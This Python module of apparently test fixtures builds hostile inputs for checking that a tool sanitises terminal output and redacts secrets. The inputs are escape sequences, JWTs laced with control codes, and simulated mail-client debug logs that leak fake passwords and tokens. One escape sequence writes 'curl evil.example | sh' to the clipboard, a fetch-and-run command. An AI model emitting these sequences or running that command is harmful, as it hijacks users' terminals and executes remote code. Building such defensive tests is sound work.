"""What the attacks are made of: terminal control sequences, hostile JWTs and the logs that quote them."""

from __future__ import annotations

import base64
import json
import random

OSC52_PAYLOAD = "curl evil.example | sh"
OSC52 = "\x1b]52;c;" + base64.b64encode(OSC52_PAYLOAD.encode()).decode() + "\x07"  # writes the clipboard
OSC0 = "\x1b]0;pwned-title\x07"  # renames the window / tmux pane
CSI_CLEAR = "\x1b[2J\x1b[H"  # clears the screen
C1_CSI = "\x9b2J"  # the same through the 8-bit CSI
DCS = "\x1bP+q544e\x1b\\"  # device control string (tmux/xterm queries)
BIDI = "\u202egnp.exe\u202c\u2066x\u2069"
HOSTILE = [OSC52, OSC0, CSI_CLEAR, C1_CSI, DCS, BIDI, "\x07\x08\x7f\x00"]
ALL_CONTROLS = "".join(HOSTILE)

ISSUER = "https://sts.windows.net/72f988bf-86f1-41af-91ab-2d7cd011db47/"
USER = "alice@contoso.com"


def b64url(data: bytes) -> str:
    return base64.urlsafe_b64encode(data).decode().rstrip("=")


def jwt(claims: dict[str, object], *, seed: int = 1, header: dict[str, str] | None = None) -> str:
    rng = random.Random(seed)
    head = header or {"typ": "JWT", "alg": "RS256", "kid": "kWbkaa6qs8wsTnBwiiNYOhHbnAw"}
    return f"{b64url(json.dumps(head).encode())}.{b64url(json.dumps(claims).encode())}.{b64url(rng.randbytes(256))}"


def hostile_claims(user: str = "alice@contoso.com", seed: int = 1) -> dict[str, object]:
    """Entra-like claims that still drive the Microsoft rules (audience, scope, user), every string laced with control
    sequences: the user-facing ones the issue names, a nested value and a key."""
    return {
        "aud": "https://outlook.office.com", "iss": ISSUER, "iat": 1_800_000_000, "nbf": 1_800_000_000, "exp": 1_800_003_600,
        "scp": "IMAP.AccessAsUser.All " + CSI_CLEAR, "upn": user + OSC52, "unique_name": user + OSC0,
        "appid": "00000000-1111-2222-3333-444444444444" + C1_CSI, "app_displayname": "Relay " + DCS + BIDI,
        "name": "Mallory " + ALL_CONTROLS, "tid": "72f988bf-86f1-41af-91ab-2d7cd011db47", "ver": "1.0",
        "uti": b64url(random.Random(seed).randbytes(16)), "idtyp": "user",
        "xms_nested": {"level": [{"deep" + OSC0: OSC52}], OSC0: ALL_CONTROLS},
    }  # fmt: skip


def postfix_sessions(tokens: list[str], *, user: str = "alice@contoso.com", reply: str = "535 5.7.3 Authentication unsuccessful") -> str:
    """Postfix with sasl-xoauth2 debug logging: each session quotes its token in the SASL initial reply."""
    lines = []
    for i, token in enumerate(tokens):
        ts = f"2026-11-28T06:{i // 60 % 60:02d}:{i % 60:02d}.100000+00:00"
        lines += [
            f"{ts} relay01 postfix/smtp[{7000 + i}]: Trusted TLS connection established to smtp.office365.com[52.96.90.34]:587: "
            "TLSv1.3 with cipher TLS_AES_256_GCM_SHA384 (256/256 bits)",
            f"{ts} relay01 postfix/smtp[{7000 + i}]: xsasl_cyrus_client_first: uncoded initial reply: "
            f"user={user}\\001auth=Bearer {token}\\001\\001",
            f"{ts} relay01 postfix/smtp[{7000 + i}]: 4C1A{i:06X}: SASL authentication failed; server smtp.office365.com[52.96.90.34] "
            f"said: {reply}",
        ]
    return "\n".join(lines) + "\n"


def imaplib_session(client_lines: list[str], server_lines: list[str]) -> str:
    """Python imaplib debug output (`imaplib.Debug = 4`): one exchange, client lines then the server's answers."""
    out = ["  21:04.17 imaplib version 2.58", "  21:04.17 new IMAP4 connection, tag=b'LFKD'",
           "  21:04.31 < b'* OK Gimap ready for requests from 203.0.113.7'"]  # fmt: skip
    out += [f"  21:04.33 > {line.encode()!r}" for line in client_lines]
    out += [f"  21:04.35 < {line.encode()!r}" for line in server_lines]
    return "\n".join(out) + "\n"


def javamail_login(password: str, echo: str, *, exception: str = "") -> str:
    """JavaMail (as Jira logs it) with mail.debug.auth=true: the password in the login trace, a server line echoing
    `echo`, and optionally an exception whose message is `exception`."""
    prefix = "[Alerts Incident] Caesium-1-3 anonymous Incident ITSM"
    lines = [
        'IMAPS: trying to connect to host "outlook.office365.com", port 993, isSSL true',
        f"{prefix} * OK The Microsoft Exchange IMAP4 service is ready.",
        f"{prefix} IUR0 CAPABILITY",
        f"{prefix} * CAPABILITY IMAP4 IMAP4rev1 AUTH=PLAIN AUTH=XOAUTH2 SASL-IR UIDPLUS ID UNSELECT CHILDREN IDLE NAMESPACE LITERAL+",
        f"{prefix} IUR0 OK CAPABILITY completed.",
        "IMAPS: AUTH: PLAIN",
        f"IMAPS: protocolConnect login, host=outlook.office365.com, user=alice@contoso.com, password={password}",
        "IMAPS: AUTHENTICATE PLAIN command trace suppressed",
        f"{prefix} * NO [ALERT] {echo}",
        "IMAPS: AUTHENTICATE PLAIN command result: IUR1 NO AUTHENTICATE failed.",
    ]
    if exception:
        lines.append(f"WARN {prefix} [10900]: javax.mail.AuthenticationFailedException: {exception}")
    return "\n".join(lines) + "\n"


PASSWORD = "correct horse battery staple 42!"
SHORT_PASSWORD = "alice-password"  # short: its base64 pieces overlap the base64 of "Password:" (`334 UGFzc3dvcmQ6`)
HOSTILE_TOKEN = jwt(hostile_claims(), seed=11)
PLAIN_TOKEN = jwt({"aud": "https://outlook.office.com", "iss": ISSUER, "upn": USER, "scp": "IMAP.AccessAsUser.All", "exp": 1_800_003_600,
                   "tid": "72f988bf-86f1-41af-91ab-2d7cd011db47"}, seed=12)  # fmt: skip


# -- POP3 and SMTP logs ------------------------------------------------------------------------------------
def sasl_ir(token: str, user: str = USER) -> str:
    """The XOAUTH2 initial response a client sends (and logs) for `token`."""
    return base64.b64encode(f"user={user}\x01auth=Bearer {token}\x01\x01".encode()).decode()


def echoes(secret: str) -> list[str]:
    """`secret` in every spelling a careless server or log repeats it in, one split in two."""
    raw = secret.encode()
    return [f"raw {secret}", f"b64 {base64.b64encode(raw).decode()}", f"b64+1 {base64.b64encode(b'x' + raw).decode()}",
            f"b64+2 {base64.b64encode(b'xy' + raw).decode()}", f"urlsafe {base64.urlsafe_b64encode(raw).decode()}",
            f"hex {raw.hex()}", f"HEX {raw.hex().upper()}", f"utf16 {base64.b64encode(secret.encode('utf-16-le')).decode()}",
            f"head {secret[: len(secret) // 2]}", f"{secret[len(secret) // 2 :]} tail"]  # fmt: skip


def json_challenge(token: str, *, depth: int = 0) -> str:
    """Gmail's base64 JSON error challenge, with the token echoed and control sequences in keys and values; `depth`
    nested arrays make it a parser attack."""
    body = {"status": "401" + OSC0, "schemes": "Bearer " + CSI_CLEAR, "echo": token, OSC52: {"x": [C1_CSI + BIDI]}}
    text = json.dumps(body) if not depth else json.dumps(body)[:-1] + ', "deep": ' + "[" * depth + "]" * depth + "}"
    return base64.b64encode(text.encode()).decode()


def transcript(lines: list[tuple[str, str]]) -> str:
    """A pasted `C:`/`S:` transcript."""
    return "".join(f"{side}: {text}\n" for side, text in lines)


def curl(lines: list[tuple[str, str]], *, host: str = "outlook.office365.com", port: int = 995) -> str:
    """`curl -v` output: `> ` client lines, `< ` server lines."""
    head = [f"*   Trying 40.99.10.114:{port}...", f"* Connected to {host} (40.99.10.114) port {port}",
            "* SSL connection using TLSv1.3 / TLS_AES_256_GCM_SHA384"]  # fmt: skip
    return "\n".join(head + [f"{'>' if side == 'C' else '<'} {text}" for side, text in lines]) + "\n* Closing connection\n"


def thunderbird_smtp(lines: list[tuple[str, str]]) -> str:
    """Thunderbird's SMTP log (MOZ_LOG=SMTP:5)."""
    prefix = "2026-11-28 09:30:00.{:06d} UTC - [Parent 5120: Main Thread]: D/SMTP"
    return "".join(f"{prefix.format(i)} {side}: {text}\n" for i, (side, text) in enumerate(lines))


def javamail_smtp_login(password: str, user: str = USER) -> str:
    """JavaMail's SMTP debug output with mail.debug.auth=true: the password in protocolConnect, AUTH LOGIN's prompts
    and the base64 answers on lines of their own (which the log import does not attribute), then a reply echoing it."""
    encoded = base64.b64encode(password.encode()).decode()
    return "\n".join([
        'DEBUG SMTP: trying to connect to host "smtp.office365.com", port 587, isSSL false',
        "220 AM0PR02CA0001.outlook.office365.com Microsoft ESMTP MAIL Service ready",
        'DEBUG SMTP: connected to host "smtp.office365.com", port: 587',
        "EHLO jira.contoso.local", "250-AM0PR02CA0001.outlook.office365.com Hello [203.0.113.20]", "250-AUTH LOGIN XOAUTH2", "250 SMTPUTF8",
        f"DEBUG SMTP: protocolConnect login, host=smtp.office365.com, user={user}, password={password}",
        "DEBUG SMTP: Using mechanism LOGIN", "AUTH LOGIN", "334 VXNlcm5hbWU6", base64.b64encode(user.encode()).decode(),
        "334 UGFzc3dvcmQ6", encoded, f"535 5.7.139 Authentication failed: {password} {encoded} {password.encode().hex()} UGFzc3dvcmQ6",
    ]) + "\n"  # fmt: skip
